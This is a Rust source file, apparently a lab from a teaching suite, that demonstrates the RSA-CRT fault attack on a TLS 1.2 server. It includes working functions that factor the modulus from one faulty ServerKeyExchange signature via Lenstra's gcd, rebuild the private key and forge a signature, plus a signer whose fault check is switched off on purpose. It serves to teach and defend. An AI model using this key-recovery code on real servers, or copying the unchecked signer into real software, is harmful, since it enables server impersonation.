//! Lab 4: one faulty RSA-CRT signature factors the modulus (Boneh, DeMillo
//! and Lipton, EUROCRYPT 1997; Lenstra's gcd, 1996; found in TLS servers'
//! ServerKeyExchange signatures by Weimer, 2015).
//!
//! A padlock-tls server signs its TLS 1.2 ServerKeyExchange with
//! RSASSA-PKCS1-v1_5 and the CRT. Its key's switch `CorruptCrtHalf` stands
//! for a glitch (a bit flip, an undervolted core): the half modulo p comes
//! out wrong. With `SkipFaultCheck` also on, the signature leaves without
//! the check `s^e = m` that padlock-rsa makes (crates/rsa/src/key.rs). The
//! attacker asks for one signature, and `gcd(s^e - m mod n, n)` is a prime
//! factor of n: the server's private key, recomputed.

use std::sync::Arc;

use padlock_rsa::lab::{Switch, Switches};
use padlock_rsa::{RsaPrivateKey, RsaPublicKey};
use padlock_sha::{Hash as _, Sha256};
use padlock_tls::messages::{HandshakeType, KeyExchangeAlgorithm, ServerKeyExchange};
use padlock_tls::sign::SignatureScheme;
use padlock_tls::suites::ECDHE_RSA_AES_128_GCM_SHA256;
use padlock_tls::trace::{Event, Side};
use padlock_tls::{ProtocolVersion, ServerConfig};

use crate::nat::{self, ModN, Nat};
use crate::net::Server;
use crate::report::{Report, Role};
use crate::{Outcome, Params, Scale, common};

/// RFC 8017 §9.2, note 1: the DER DigestInfo prefix for SHA-256.
const SHA256_DIGEST_INFO: [u8; 19] = [
    0x30, 0x31, 0x30, 0x0d, 0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x02, 0x01, 0x05, 0x00,
    0x04, 0x20,
];

/// EMSA-PKCS1-v1_5 (RFC 8017 §9.2) with SHA-256, on `k` bytes: `00 01 FF..FF
/// 00 DigestInfo H(message)`. Public: anyone who has the message has this.
pub fn emsa_pkcs1_v15_sha256(message: &[u8], k: usize) -> Vec<u8> {
    let digest = Sha256::digest(message);
    let t = [SHA256_DIGEST_INFO.as_slice(), digest.as_ref()].concat();
    let mut em = vec![0xff; k];
    em[0] = 0;
    em[1] = 1;
    em[k - t.len() - 1] = 0;
    em[k - t.len()..].copy_from_slice(&t);
    em
}

/// Lenstra's gcd: for a signature `s` of the encoded message `m` that is
/// right modulo one prime of `n` and wrong modulo the other, `s^e - m` is a
/// multiple of the first and not of `n`, so `gcd(s^e - m mod n, n)` is
/// that prime. `None` if the signature is right (the gcd is `n`) or wrong
/// modulo both (the gcd is 1).
pub fn lenstra(n: &Nat, e: u64, m: &Nat, s: &Nat) -> Option<Nat> {
    let modn = ModN::new(n);
    let s_e = modn.pow(s, e);
    let m = modn.reduce(m);
    let diff = if s_e >= m { s_e.sub(&m) } else { s_e.add(n).sub(&m) };
    let g = nat::gcd(&diff, n);
    (g != Nat::from_u64(1) && &g != n && !g.is_zero()).then_some(g)
}

/// The private key from one prime factor: `q = n / p`, `d = e^-1 mod
/// lcm(p - 1, q - 1)` (FIPS 186-5 A.1.1).
pub fn rebuild_key(public: &RsaPublicKey, p: &Nat) -> Result<RsaPrivateKey, String> {
    let n = Nat::from_be_bytes(&public.n_bytes());
    let (q, rest) = n.div_rem(p);
    if !rest.is_zero() {
        return Err("not a factor".into());
    }
    let one = Nat::from_u64(1);
    let (p1, q1) = (p.sub(&one), q.sub(&one));
    let lambda = p1.mul(&q1).div_floor(&nat::gcd(&p1, &q1));
    let lambda = padlock_bigint::Uint::from_be_bytes(&lambda.to_be_bytes(public.size()).ok_or("lambda")?);
    let d = Option::<padlock_bigint::Uint>::from(padlock_bigint::inv_small_odd_mod(public.e(), &lambda))
        .ok_or("e is not invertible")?;
    let uint =
        |x: &Nat| padlock_bigint::Uint::from_be_bytes(&x.to_be_bytes(public.size()).unwrap_or_default());
    RsaPrivateKey::from_components(&public.n_bytes(), public.e(), &d, &uint(p), &uint(&q))
        .map_err(|e| e.to_string())
}

pub(crate) fn run(params: &Params, report: &mut Report<'_>) -> Result<Outcome, String> {
    let seed = params.seed;
    report.heading("The setting");
    report.explain(format!(
        "A TLS 1.2 server with ECDHE_RSA signs every ServerKeyExchange with its RSA key, using the Chinese \
         Remainder Theorem: s_p = m^dP mod p and s_q = m^dQ mod q, joined into s = m^d mod n, four times \
         faster than one exponentiation. A glitch in one half — here the switch CorruptCrtHalf, which makes \
         the half modulo p wrong on every signature — gives a signature right modulo q only. {}",
        if params.fixed {
            "This is the real signer (--fixed): padlock-rsa checks s^e = m before a signature leaves, and \
             answers a fault with an error instead."
        } else {
            "The switch SkipFaultCheck is on too (crates/rsa/src/key.rs): the signature leaves unchecked, as \
             it did from the TLS servers Weimer found in 2015."
        }
    ));
    let bits = match params.scale {
        Scale::Lab => 2048,
        Scale::Test => 1024,
    };
    let pki = common::pki(bits, &["localhost"], seed)?;
    let mut key = Arc::try_unwrap(pki.key).map_err(|_| "the key is shared")?;
    let truth_p = Nat::from_be_bytes(&key.crt_bytes()[0]);
    let truth_q = Nat::from_be_bytes(&key.crt_bytes()[1]);
    let mut switches = Switches::NONE.turn_on(Switch::CorruptCrtHalf);
    if !params.fixed {
        switches = switches.turn_on(Switch::SkipFaultCheck);
    }
    key.set_lab_switches(switches);
    let public = key.public_key().clone();
    let mut config = ServerConfig::new(vec![pki.leaf.clone()], Arc::new(key));
    config.versions = vec![ProtocolVersion::Tls12];
    config.cipher_suites = vec![ECDHE_RSA_AES_128_GCM_SHA256];
    let server =
        Server::start(config, seed, 1, |stream| crate::net::answer_request(stream, "hello\n").map(|_| ()))?;

    report.heading("One handshake");
    report.explain(
        "The attacker connects like any client, offering ECDHE with rsa_pkcs1_sha256 (RSASSA-PKCS1-v1_5 is \
         deterministic: from the message, anyone can compute the encoded block m that was signed), and keeps \
         the ServerKeyExchange.",
    );
    let mut config = common::client_config("localhost", &pki.ca);
    config.versions = vec![ProtocolVersion::Tls12];
    config.cipher_suites = vec![ECDHE_RSA_AES_128_GCM_SHA256];
    config.signature_schemes = vec![SignatureScheme::RsaPkcs1Sha256];
    let fetched = common::fetch(server.address(), config, seed, b"GET / HTTP/1.1\r\n\r\n");
    let Some((signed, signature)) = signed_key_exchange(&fetched.events) else {
        let why = fetched.response.err().unwrap_or_default();
        report.wire(Role::Server, Role::Attacker, format!("no ServerKeyExchange: {why}"), &[]);
        report.leak("nothing: the faulty signature never left the server");
        report.figure("connections", "1");
        report.verdict(false, "the fault was caught: no signature, nothing to factor");
        return Ok(Outcome { attack_succeeded: false, queries: 1, seconds: 0.0 });
    };
    report.wire(Role::Server, Role::Attacker, "ServerKeyExchange: the signature s", &signature);
    let m = emsa_pkcs1_v15_sha256(&signed, public.size());
    report.value(
        "m = EMSA-PKCS1-v1_5(SHA-256(client_random || server_random || params))",
        padlock_tls::trace::hex(&m[m.len() - 51..]) + " (its last 51 bytes)",
    );
    report.value("the client's own check of s", fetched.response.err().unwrap_or_else(|| "passed".into()));
    report.leak("a signature that is right modulo q and wrong modulo p");
    report.heading("Lenstra's gcd");
    report.explain(
        "s^e = m holds modulo q but not modulo p, so q divides s^e - m and p does not: gcd(s^e - m mod n, n) = \
         q. One gcd, no search. From q, p = n/q, and d = e^-1 mod lcm(p-1, q-1): the server's private key.",
    );
    let n = Nat::from_be_bytes(&public.n_bytes());
    let factor = lenstra(&n, public.e(), &Nat::from_be_bytes(&m), &Nat::from_be_bytes(&signature));
    let Some(factor) = factor else {
        report.verdict(false, "the gcd is trivial: the signature is not faulty in one half only");
        return Ok(Outcome { attack_succeeded: false, queries: 1, seconds: 0.0 });
    };
    let truth = if factor == truth_p { &truth_p } else { &truth_q };
    let len = public.size() / 2;
    report.recovered(
        "a prime factor of n",
        &factor.to_be_bytes(len).unwrap_or_default(),
        &truth.to_be_bytes(len).unwrap_or_default(),
    );
    let rebuilt = rebuild_key(&public, &factor)?;
    let forged = rebuilt
        .sign_pkcs1v15::<Sha256, _>(b"I am localhost.", &mut crate::net::rng(seed, 40))
        .map_err(|e| e.to_string())?;
    let verifies = public.verify_pkcs1v15::<Sha256>(b"I am localhost.", &forged).is_ok();
    report.value(
        "a message signed with the rebuilt key verifies under the server's certificate",
        if verifies { "yes" } else { "no" },
    );
    report.figure("connections", "1");
    report.figure("faulty signatures needed", "1");
    report.figure("RSA modulus", format!("{bits} bits"));
    report.verdict(
        verifies,
        "the server's private key, from one signature: the attacker can now impersonate it",
    );
    Ok(Outcome { attack_succeeded: verifies, queries: 1, seconds: 0.0 })
}

/// The signed content (client random, server random, params) and the
/// signature of the ServerKeyExchange the client received.
pub(crate) fn signed_key_exchange(events: &[(Side, Event)]) -> Option<(Vec<u8>, Vec<u8>)> {
    let message = |typ: HandshakeType, sent: bool| {
        events.iter().find_map(|(_, e)| match e {
            Event::Handshake { sent: s, typ: t, bytes, .. } if *t == typ && *s == sent => {
                Some(bytes[4..].to_vec())
            }
            _ => None,
        })
    };
    let client_hello = message(HandshakeType::ClientHello, true)?;
    let server_hello = message(HandshakeType::ServerHello, false)?;
    let ske = ServerKeyExchange::decode(
        &message(HandshakeType::ServerKeyExchange, false)?,
        KeyExchangeAlgorithm::Ecdhe,
    )
    .ok()?;
    let signed = [client_hello.get(2..34)?, server_hello.get(2..34)?, &ske.params_bytes].concat();
    Some((signed, ske.signed.signature))
}
